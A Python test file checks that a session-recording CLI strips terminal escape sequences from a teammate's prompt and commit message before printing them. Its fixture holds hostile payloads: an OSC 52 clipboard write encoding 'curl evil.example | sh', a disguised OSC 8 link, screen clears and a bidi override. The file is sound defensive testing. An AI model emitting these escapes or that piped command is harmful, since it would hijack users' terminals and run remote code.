"""A teammate's prompt and commit message carry terminal escapes — an OSC 52 clipboard write, an
OSC 8 hyperlink, a screen clear, their one-byte C1 forms, a carriage return, a bidi override.
Served by the live server, they reach no reader's terminal: every command that prints them is
walked for control characters, human output and `--json` alike."""

from __future__ import annotations

import json
import re

import pytest
from django_scopes import scopes_disabled

from projects.scoping import project_scope
from sessions_app.models import Session
from sessions_app.processing import session_process
from tests.client.attribution_helpers import agent_write
from tests.client.conftest import git, head

pytestmark = pytest.mark.django_db(transaction=True)

ATTACK = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the reader's clipboard
    "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"  # OSC 8: a link that hides its target
    "\x1b[2J\x1b[H"  # clear the screen
    "\x9b2J\x9d52;c;eA==\x9c"  # the same as single C1 characters
    "\rfake line\x7f\x08"  # overwrite the line, delete
    "\u202ereversed\u202c"  # bidi override
)
PROMPT = f"Write the parser MARKER-PROMPT {ATTACK} end"
SUBJECT = f"Add the parser MARKER-COMMIT {ATTACK} end"
# What a terminal acts on: C0 but tab and newline, DEL, C1, and unescaped bidi overrides.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def process_all() -> None:
    with scopes_disabled():
        sessions = list(Session.objects.select_related("project", "author").filter(content_storage_key=""))
    for session in sessions:
        with project_scope(session.project):
            session_process(session=session)


@pytest.fixture
def hostile_commit(ledger, repo, claude) -> str:
    """A captured, processed conversation whose prompt and commit message attack the terminal."""
    claude.prompt(PROMPT)
    agent_write(claude, repo, "parser.py", "def parse(text):\n    return text.split()\n")
    git(repo, "add", "-A")
    claude.bash(f"git commit -q -F - <<'MSG'\n{SUBJECT}\nMSG")
    claude.end()
    process_all()
    return head(repo)


def test_no_command_prints_a_teammates_terminal_escapes(hostile_commit, repo, client_env) -> None:
    sha = hostile_commit
    commands = [
        ["list"],
        ["show", sha[:10]],
        ["turns", sha[:10], "--list"],
        ["turns", sha[:10], "--steps", "--list"],
        ["pr-links", f"{sha}~1..{sha}"],
        ["context", "--branch", "main", "--files", "parser.py", "--prompts"],
        ["why", "parser.py:1"],
        ["blame", "parser.py"],
    ]
    seen = ""
    for args in commands:
        for extra in ([], ["--json"]) if args[0] not in ("pr-links",) else ([],):
            result = client_env.cli(*args, *extra, cwd=repo)
            assert result.returncode == 0, (args, extra, result.stderr)
            output = result.stdout + result.stderr
            assert not UNSAFE.search(output), (args, extra, UNSAFE.findall(output))
            if extra:
                json.loads(result.stdout)  # escaped, still JSON
            seen += output

    for marker in ("MARKER-PROMPT", "MARKER-COMMIT"):
        assert marker in seen  # the hostile text was served and printed, only defused
    assert "<U+202E>reversed<U+202C>" in seen  # the override is shown, not obeyed


def test_json_output_keeps_the_hostile_text_exactly_once_parsed(hostile_commit, repo, client_env) -> None:
    turns = json.loads(client_env.cli("turns", hostile_commit[:10], "--json", cwd=repo).stdout)
    assert turns[0]["prompt"] == PROMPT  # escapes in the JSON text, the same string to a script
